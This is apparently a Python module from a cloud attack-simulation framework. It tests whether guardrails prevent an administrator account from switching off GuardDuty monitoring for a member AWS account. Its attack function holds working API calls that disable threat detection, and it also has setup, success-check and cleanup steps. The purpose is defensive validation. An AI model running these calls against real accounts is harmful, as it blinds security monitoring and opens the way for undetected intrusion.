"""Suspend GuardDuty for one member, from the account that administers it.

A member of an organization cannot turn its own detector off; whoever holds the administrator's account can.
"""

from bastide.attack.stage import Stage
from bastide.attack.technique import NotPlayable, Prevented, Scene, Technique

TECHNIQUE = Technique(
    title="GuardDuty stops watching a member account",
    mitre=("T1562.001",),
    tactic="defense-evasion",
    detectors=("Security Hub GuardDuty.1", "GuardDuty DefenseEvasion:IAMUser/AnomalousBehavior"),
    expected=Prevented("guardduty-protect"),
    where="audit",
    source="Amazon GuardDuty API Reference, StopMonitoringMembers",
)


def prepare(stage: Stage) -> Scene:
    """The detector of the account that administers GuardDuty, with the victim among its members."""
    account = stage.accounts["audit"]
    guardduty = stage.owner(account).client("guardduty")
    found = guardduty.list_detectors()["DetectorIds"]
    if not found or not guardduty.get_members(DetectorId=found[0], AccountIds=[stage.victim])["Members"]:
        raise NotPlayable("the victim is no member of a GuardDuty that the audit account administers")
    before = guardduty.describe_organization_configuration(DetectorId=found[0])["AutoEnableOrganizationMembers"]
    return {"account": account, "detector": found[0], "before": before}


def attack(stage: Stage, scene: Scene) -> None:
    """Enrol only new accounts from now on, then stop monitoring this one."""
    guardduty = stage.attacker(scene["account"]).client("guardduty")
    guardduty.update_organization_configuration(DetectorId=scene["detector"], AutoEnableOrganizationMembers="NEW")
    guardduty.stop_monitoring_members(DetectorId=scene["detector"], AccountIds=[stage.victim])


def succeeded(stage: Stage, scene: Scene) -> bool:
    """The victim's detector is disabled."""
    guardduty = stage.owner().client("guardduty")
    detector = guardduty.list_detectors()["DetectorIds"][0]
    return str(guardduty.get_detector(DetectorId=detector)["Status"]) == "DISABLED"


def clean_up(stage: Stage, scene: Scene) -> None:
    """Watch it again, and enrol as before."""
    guardduty = stage.owner(scene["account"]).client("guardduty")
    guardduty.start_monitoring_members(DetectorId=scene["detector"], AccountIds=[stage.victim])
    guardduty.update_organization_configuration(
        DetectorId=scene["detector"], AutoEnableOrganizationMembers=scene["before"]
    )
